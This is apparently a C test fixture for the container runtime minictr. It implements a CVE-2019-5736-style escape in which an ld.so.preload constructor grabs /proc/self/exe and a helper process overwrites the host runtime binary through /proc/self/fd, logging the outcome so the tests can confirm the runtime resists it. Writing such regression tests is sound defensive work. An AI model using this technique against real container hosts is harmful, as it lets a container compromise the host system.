/* A hostile container root trying CVE-2019-5736 on minictr, built twice
 * by the tests:
 *
 *   -shared -DPRELOAD   hostile-exe.so, in the container's /etc/ld.so.preload:
 *                       in a program whose /proc/self/exe is a minictr
 *                       (a `#!/proc/self/exe` script run by `exec` makes
 *                       one), it opens that exe (O_PATH), hands the fd to
 *                       the writer below and exits at once;
 *   (program)           /hostile-writer FD PID: once PID has exited and
 *                       the binary is no longer busy, opens FD's file for
 *                       writing through /proc/self/fd and writes to it.
 *
 * The writer records in /result, one line each: `exe TARGET` (what FD is)
 * and `open ERRNO`, `write ERRNO` or `written`.  */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifdef PRELOAD

__attribute__ ((constructor)) static void
hostile (void)
{
  char exe[4096], fd_arg[16], pid_arg[16];
  ssize_t n = readlink ("/proc/self/exe", exe, sizeof (exe) - 1);
  int fd;

  if (n < 0)
    return;
  exe[n] = '\0';
  if (strstr (exe, "minictr") == NULL)
    return;
  fd = open ("/proc/self/exe", O_PATH);
  if (fd < 0)
    return;
  snprintf (fd_arg, sizeof (fd_arg), "%d", fd);
  snprintf (pid_arg, sizeof (pid_arg), "%d", (int) getpid ());
  if (fork () == 0)
    {
      execl ("/hostile-writer", "hostile-writer", fd_arg, pid_arg, (char *) NULL);
      _exit (127);
    }
  _exit (0);
}

#else

int
main (int argc, char **argv)
{
  char path[64], target[4096];
  struct pollfd p = { .events = POLLIN };
  int fd, w, i;
  ssize_t n;
  FILE *out;

  if (argc != 3)
    return 2;
  fd = atoi (argv[1]);
  p.fd = (int) syscall (SYS_pidfd_open, atoi (argv[2]), 0);
  if (p.fd >= 0)
    poll (&p, 1, 10000);
  snprintf (path, sizeof (path), "/proc/self/fd/%d", fd);
  n = readlink (path, target, sizeof (target) - 1);
  target[n < 0 ? 0 : n] = '\0';
  out = fopen ("/result.new", "w");
  if (out == NULL)
    return 1;
  fprintf (out, "exe %s\n", target);
  /* Busy while any process still runs it (the one that ran us, another
   * of minictr's): retried for 10 s.  */
  for (i = 0; (w = open (path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && i < 1000; i++)
    usleep (10000);
  if (w < 0)
    fprintf (out, "open %s\n", strerrorname_np (errno));
  else if (write (w, "pwned", 5) < 0)
    fprintf (out, "write %s\n", strerrorname_np (errno));
  else
    fprintf (out, "written\n");
  fclose (out);
  return rename ("/result.new", "/result") < 0;
}

#endif
